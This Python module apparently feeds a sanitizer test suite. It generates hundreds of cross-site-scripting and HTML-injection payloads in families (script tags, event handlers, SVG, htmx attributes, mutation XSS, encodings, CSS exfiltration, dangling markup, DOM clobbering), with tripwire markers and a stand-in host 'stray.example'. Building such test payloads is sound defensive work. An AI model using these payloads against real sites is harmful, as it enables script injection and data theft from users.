"""What an attacker would write into a text, made from families and ways out of a place.

`HIT` runs as script and tells which payload it was; `STRAY` is an address that nothing of
ours asks for. Nothing here was collected: each family says what it tries.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product, zip_longest

# The number of the payload stands in its place.
NUMBER = "§"
HIT = f"tripwire({NUMBER})"
HOST = "stray.example"
STRAY = f"https://{HOST}/{NUMBER}"
# htmx asks its own site alone: a path that nothing of ours asks for either.
OWN_STRAY = f"/trip/{NUMBER}"


@dataclass(frozen=True, slots=True)
class Payload:
    family: str
    number: int
    text: str


def entities(text: str) -> str:
    """Each letter as a reference, as old filters let through."""
    return "".join(f"&#{ord(letter)};" for letter in text)


def wide(text: str) -> str:
    """Full-width forms, which some databases fold back."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def script_tags() -> Iterator[str]:
    yield f"<script>{HIT}</script>"
    yield f"<ScRiPt>{HIT}</sCrIpT >"
    yield f"<script/x>{HIT}</script>"
    yield f"<script\n>{HIT}</script>"
    yield f"<script>{HIT}//"
    yield f"<scr<script>ipt>{HIT}</scr</script>ipt>"
    for kind in ("", " async", " defer", " type=module", " type=text/javascript"):
        yield f"<script{kind} src={STRAY}></script>"
        yield f"<script{kind}>{HIT}</script>"
    yield f"<script src=//{HOST}/{NUMBER}></script>"
    yield f"<script src=data:text/javascript,{HIT}></script>"
    yield f"<script src=/static/js/live.js onload={HIT}></script>"
    yield f'<script nonce="">{HIT}</script>'


def event_handlers() -> Iterator[str]:
    for tag, event in (
        ("img src=x", "error"),
        ("img src=/static/none.png", "error"),
        ("body", "load"),
        ("body", "pageshow"),
        ("input autofocus", "focus"),
        ("select autofocus", "focus"),
        ("textarea autofocus", "focus"),
        ("details open", "toggle"),
        ("video src=x", "error"),
        ("audio src=x", "error"),
        ("marquee", "start"),
        ("div", "mouseover"),
        ("p", "click"),
        ("b tabindex=0", "focusin"),
        ("i style=animation:x", "animationstart"),
        ("button popovertarget=y", "beforetoggle"),
        ("iframe", "load"),
        ("link rel=stylesheet href=/x.css", "error"),
    ):
        yield f"<{tag} on{event}={HIT}>"
    yield f"<img/src=x/onerror={HIT}>"
    yield f"<img src=x onerror\n=\n{HIT}>"
    yield f"<img src=x oNeRrOr={HIT}>"
    yield f"<img src=x onerror={entities(HIT)}>"
    yield f"<img src=x onerror=\"eval('{HIT}')\">"
    yield f"<img src=x onerror=setTimeout('{HIT}')>"


def svg_and_math() -> Iterator[str]:
    yield f"<svg onload={HIT}>"
    yield f"<svg><script>{HIT}</script></svg>"
    yield f"<svg><script href={STRAY} /></svg>"
    yield f"<svg><animate onbegin={HIT} attributeName=x dur=1s>"
    yield f"<svg><set onbegin={HIT} attributeName=x>"
    yield f"<svg><image href={STRAY}></svg>"
    yield f"<svg><use href={STRAY}#x></svg>"
    yield f"<svg><feImage href={STRAY}></svg>"
    yield f"<svg><a href=javascript:{HIT}><text y=20>x</text></a></svg>"
    yield (
        "<svg><a><animate attributeName=href "
        f"values=javascript:{HIT} /><text y=20>x</text></a></svg>"
    )
    yield f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>"
    yield f"<svg><style>@import'{STRAY}'</style></svg>"
    yield f"<math href=javascript:{HIT}>x</math>"
    yield f"<math><mtext><img src=x onerror={HIT}></mtext></math>"


def script_addresses() -> Iterator[str]:
    for address in (
        f"javascript:{HIT}",
        f"JaVaScRiPt:{HIT}",
        f"java&#9;script:{HIT}",
        f"java\nscript:{HIT}",
        f"&#1;javascript:{HIT}",
        f"javascript&colon;{HIT}",
        f"javascript://%0a{HIT}",
        f"data:text/html,<script>{HIT}</script>",
        f"vbscript:{HIT}",
    ):
        yield f'<a href="{address}">x</a>'
    yield f"javascript:{HIT}"
    for tag in (
        "iframe src",
        "embed src",
        "object data",
        "form><button formaction",
        "area href",
        "input type=image src",
    ):
        yield f'<{tag}="javascript:{HIT}">x'


def meta_refresh() -> Iterator[str]:
    yield f'<meta http-equiv=refresh content="0;url={STRAY}">'
    yield f'<meta http-equiv=refresh content="0;{STRAY}">'
    yield f"<meta content='0;url={OWN_STRAY}' http-equiv=ReFrEsH>"
    yield f'<meta http-equiv="refresh" content="0;url=javascript:{HIT}">'
    yield f'<meta http-equiv="refresh" content="0;url=data:text/html,<script>{HIT}">'
    yield f'<meta http-equiv="Set-Cookie" content="a={NUMBER}">'


def base_addresses() -> Iterator[str]:
    yield f"<base href=//{HOST}/{NUMBER}/>"
    yield f"<base href={STRAY}/><script src=/x.js></script><img src=y.png>"
    yield f"<base target=_blank href={STRAY}>"
    yield f"<base href=javascript:/a/-{HIT}///////><a href=../lol/safari>x</a>"


def frames() -> Iterator[str]:
    yield f"<iframe src={STRAY}></iframe>"
    yield f"<iframe srcdoc='<script>{HIT}</script>'></iframe>"
    yield f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>'
    yield f"<iframe srcdoc='{entities(f'<img src=x onerror=parent.{HIT}>')}'></iframe>"
    yield f"<iframe sandbox=allow-scripts srcdoc='<script>{HIT}</script>'></iframe>"
    yield f"<iframe src='data:text/html,<script>{HIT}</script>'></iframe>"
    yield f"<frameset><frame src={STRAY}></frameset>"
    yield f"<fencedframe src={STRAY}></fencedframe><portal src={STRAY}></portal>"


def form_actions() -> Iterator[str]:
    yield f"<form action={STRAY}><input name=a><button>x</button></form>"
    yield f"<form method=post action={STRAY}><textarea name=a>"
    yield f"<form id=f{NUMBER}></form><button form=f{NUMBER} formaction={STRAY}>x</button>"
    yield f"<form action={STRAY}><input type=image src=x></form>"
    yield f"<form target=_blank action={STRAY}><button>x</button></form>"
    yield f"<form method=dialog action=javascript:{HIT}><button>x</button></form>"


def styles_and_links() -> Iterator[str]:
    for relation in (
        "stylesheet",
        "prefetch",
        "preload as=script",
        "preload as=image",
        "modulepreload",
        "icon",
        "manifest",
        "import",
        "alternate stylesheet",
    ):
        yield f"<link rel={relation} href={STRAY}>"
    yield f"<style>@import url({STRAY});</style>"
    yield f"<style>*{{background:url({STRAY})}}</style>"
    yield f'<b style="background:url({STRAY})">x</b>'


def template_languages() -> Iterator[str]:
    for opened, closed in (
        ("${", "}"),
        ("{{", "}}"),
        ("{{{", "}}}"),
        ("{%", "%}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("[[", "]]"),
        ("`${", "}`"),
    ):
        yield f"{opened}{HIT}{closed}"
        yield f"{opened}constructor.constructor('{HIT}')(){closed}"
    yield f"<b x-data x-init={HIT} v-html={HIT} ng-init={HIT}>x</b>"
    yield "{% debug %}{{ request.META }}{% include request.path %}{% load x %}"


def htmx_requests() -> Iterator[str]:
    for method in ("get", "post", "put", "delete", "patch"):
        yield f"<i hx-{method}={OWN_STRAY} hx-trigger=load>x</i>"
    yield f"<i data-hx-get={OWN_STRAY} data-hx-trigger=load>x</i>"
    yield f"<i hx-get={STRAY} hx-trigger='load, every 1s' hx-target=body>x</i>"
    yield f"<i hx-get={OWN_STRAY} hx-trigger=load hx-nonce=x>x</i>"
    yield f"<i hx-get={OWN_STRAY} hx-trigger=revealed>x</i>"
    yield f"<div hx-boost=true><a href={OWN_STRAY}>x</a></div>"
    yield f"<div hx-get={OWN_STRAY} hx-trigger='load[{HIT}]'>x</div>"
    yield f"<form hx-post={OWN_STRAY} hx-trigger=load><input name=a></form>"
    yield f"<div hx-ext=sse sse-connect={OWN_STRAY} hx-ws=connect:{OWN_STRAY}>x</div>"
    yield f'<hx-action hx-config=\'{{"mode": "cors"}}\' hx-get={STRAY} hx-trigger=load>'


def htmx_handlers() -> Iterator[str]:
    for name in ("hx-on:click", "hx-on::load", "hx-on:htmx:load", "data-hx-on:click"):
        yield f"<i {name}={HIT}>x</i>"
    yield f"<i hx-vals='js:{{a: {HIT}}}' hx-get={OWN_STRAY} hx-trigger=load>x</i>"
    yield f"<i hx-headers='js:{{a: {HIT}}}' hx-get={OWN_STRAY} hx-trigger=load>x</i>"
    yield f"<i hx-live={HIT}>x</i>"


def htmx_swaps() -> Iterator[str]:
    yield f"<hx-partial hx-target=body><img src=x onerror={HIT}></hx-partial>"
    yield f"<hx-partial hx-target=#main><script>{HIT}</script></hx-partial>"
    yield f"<template hx type=partial hx-target=body><img src=x onerror={HIT}></template>"
    yield f"<p id=main hx-swap-oob=true><img src=x onerror={HIT}></p>"
    yield f"<div hx-swap-oob='innerHTML:body'><script>{HIT}</script></div>"
    yield f"<div id=live data-version=1><script>{HIT}</script></div>"


def mutations() -> Iterator[str]:
    """Mark-up that means something else the second time it is parsed."""
    inner = f"<img src=x onerror={HIT}>"
    yield f"<noscript><p title='</noscript>{inner}'>"
    yield f"<math><mtext><table><mglyph><style><!--</style>{inner}"
    yield f"<svg></p><style><a id='</style>{inner}'>"
    yield ("<form><math><mtext></form><form><mglyph><style></math>" + inner)
    yield f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>"
    yield f"<table><tr><td>{inner}<table>"
    yield f"<select><template><img src=x onerror={HIT}></template></select>"
    yield f"<svg><desc><style><title></style>{inner}"
    yield f"<math><annotation-xml encoding=text/html><style>{inner}</style>"
    yield f"<a id='x' title='&lt;/a>{inner}'>x"


def encodings() -> Iterator[str]:
    whole = f"<img src=x onerror={HIT}>"
    yield entities(whole)
    yield whole.replace("<", "&lt;").replace(">", "&gt;")
    yield whole.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield whole.replace("<", "%3C").replace(">", "%3E")
    yield whole.replace("<", "\\u003c").replace(">", "\\u003e")
    yield whole.replace("<", "\\x3c").replace(">", "\\x3e")
    yield whole.replace("<", "+ADw-").replace(">", "+AD4-")
    yield wide(whole)
    yield wide(f"<script>{HIT}</script>").replace(wide(HIT), HIT)
    yield f"\u02c2script\u02c3{HIT}\u02c2/script\u02c3"
    yield f"<\x0cscript>{HIT}</script>"
    yield f"<img\x0bsrc=x onerror={HIT}>"


def unseen_characters() -> Iterator[str]:
    for unseen in "\u200b\u202e\u2066\ufeff\u00ad\u2028":
        yield f"<{unseen}script>{HIT}</script>"
        yield f"<img src=x on{unseen}error={HIT}>"
        yield f"{unseen}<svg onload={HIT}>{unseen}"


def comments() -> Iterator[str]:
    inner = f"<img src=x onerror={HIT}>"
    for opened in (
        "-->",
        "--!>",
        "<!-->",
        "<!--->",
        "]]>",
        "<!--x--!>",
        "<![CDATA[x]]>",
    ):
        yield opened + inner
    yield f"<!--<img src='--><img src=x onerror={HIT}//'>"
    yield f"<?xml-stylesheet href='{STRAY}'?>{inner}"
    yield f"<!DOCTYPE x [<!ENTITY y SYSTEM '{STRAY}'>]>{inner}"
    yield "<!--"


def attribute_breakouts() -> Iterator[str]:
    for quote, event in product(
        ('"', "'", "`", "", "&quot;", "&#39;", '\\"'),
        (f"onfocus={HIT} autofocus", f"onmouseover={HIT}"),
    ):
        yield f"x{quote} {event} x={quote}"
    yield f'" style=animation:x onanimationstart={HIT} "'
    yield f'" hx-get={OWN_STRAY} hx-trigger=load "'
    yield f'" popover onbeforetoggle={HIT} "'
    yield f"' src={STRAY} '"


def json_breakouts() -> Iterator[str]:
    yield f"</script><script>{HIT}</script>"
    yield f'"}}]</script><svg onload={HIT}>'
    yield f'\\"-{HIT}}}//'
    yield f'";{HIT};"'
    yield f"';{HIT};'"
    yield f"\u2028{HIT}\u2029"
    yield f"<!--<script>{HIT}</script>"
    yield f"__proto__[x]={HIT}"


def style_exfiltration() -> Iterator[str]:
    for rule in (
        f"input[value^=a]{{background:url({STRAY})}}",
        f"@font-face{{font-family:x;src:url({STRAY})}}*{{font-family:x}}",
        f"@import '{STRAY}';",
        f"html{{background:image-set('{STRAY}' 1x)}}",
        f"b::after{{content:url({STRAY})}}",
        f"@namespace url({STRAY});*{{cursor:url({STRAY}),auto}}",
    ):
        yield f"<style>{rule}</style><b>x</b>"
    yield f"<b style='list-style:url({STRAY});display:list-item'>x</b>"
    yield f'" style="background:url({STRAY})'


def objects() -> Iterator[str]:
    for tag in ("object data", "embed src", "applet code", "param value"):
        yield f"<{tag}={STRAY}>"
    yield f"<object data='data:text/html,<script>{HIT}</script>'></object>"
    yield f"<embed type=image/svg+xml src='data:image/svg+xml,<svg onload={HIT}>'>"
    yield f"<object type=text/html data={OWN_STRAY}></object>"


def dangling_markup() -> Iterator[str]:
    yield f"<img src='{STRAY}?"
    yield f'<img src="{STRAY}?'
    yield f"<link rel=stylesheet href='{STRAY}?"
    yield f"<form action={STRAY}><textarea name=x>"
    yield f"<form action={STRAY}><button>x</button><option>"
    yield f"<table background='{STRAY}?"
    yield f"<video poster='{STRAY}?"
    yield f"<iframe name='{NUMBER}"
    yield "<a title='"
    yield '<input value="'


def media() -> Iterator[str]:
    yield f"<img src={STRAY}>"
    yield f"<img srcset='{STRAY} 2x'>"
    yield f"<picture><source srcset={STRAY}><img></picture>"
    yield f"<video src={STRAY} autoplay></video>"
    yield f"<video poster={STRAY}></video>"
    yield f"<audio src={STRAY} autoplay></audio>"
    yield f"<video><track default src={STRAY}></video>"
    yield f"<body background={STRAY}>"
    yield f"<input type=image src={STRAY}>"


def text_traps() -> Iterator[str]:
    """Tags that make text of all that follows."""
    traps = ("plaintext", "xmp", "textarea", "title", "style", "noscript", "template")
    for name in (*traps, "select", "noframes", "iframe", "script"):
        yield f"<{name}>"
        yield f"</{name}><img src=x onerror={HIT}>"
    for name in ("main", "body", "html", "section", "table", "ul", "button", "form"):
        yield f"</{name}></{name}>"


def clobbering() -> Iterator[str]:
    for name in (
        "poll",
        "live",
        "main",
        "lost",
        "spoken",
        "htmx",
        "body",
        "attributes",
    ):
        yield f"<form id={name} name={name}><input name=dataset name=parentNode></form>"
    yield f"<a id=htmx href={STRAY}><a id=htmx name=config href={STRAY}>"
    yield '<img name=getElementById><img name=querySelector><img name="currentScript">'


FAMILIES = {
    "script tags": script_tags,
    "event handlers": event_handlers,
    "svg and math": svg_and_math,
    "javascript: addresses": script_addresses,
    "meta refresh": meta_refresh,
    "base": base_addresses,
    "frames": frames,
    "form actions": form_actions,
    "style and link": styles_and_links,
    "template languages": template_languages,
    "htmx requests": htmx_requests,
    "htmx handlers": htmx_handlers,
    "htmx swaps": htmx_swaps,
    "mutations": mutations,
    "encodings": encodings,
    "unseen characters": unseen_characters,
    "comments": comments,
    "attribute breakouts": attribute_breakouts,
    "json breakouts": json_breakouts,
    "style exfiltration": style_exfiltration,
    "objects": objects,
    "dangling mark-up": dangling_markup,
    "media": media,
    "text traps": text_traps,
    "clobbering": clobbering,
}
# Out of an attribute, a title, a script, a field for text: wherever a text may stand.
WAYS_OUT = ('">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->")


def _of(family: str) -> Iterator[str]:
    """Each as it is, and after a way out of the place that it may stand in."""
    for place, text in enumerate(FAMILIES[family]()):
        yield text
        yield WAYS_OUT[place % len(WAYS_OUT)] + text


def payloads() -> list[Payload]:
    """All; neighbours are of different families, so that any few are of many."""
    by_family = [[(name, text) for text in _of(name)] for name in FAMILIES]
    mixed = [each for row in zip_longest(*by_family) for each in row if each]
    return [
        Payload(family, number, text.replace(NUMBER, str(number)))
        for number, (family, text) in enumerate(mixed, 1)
    ]
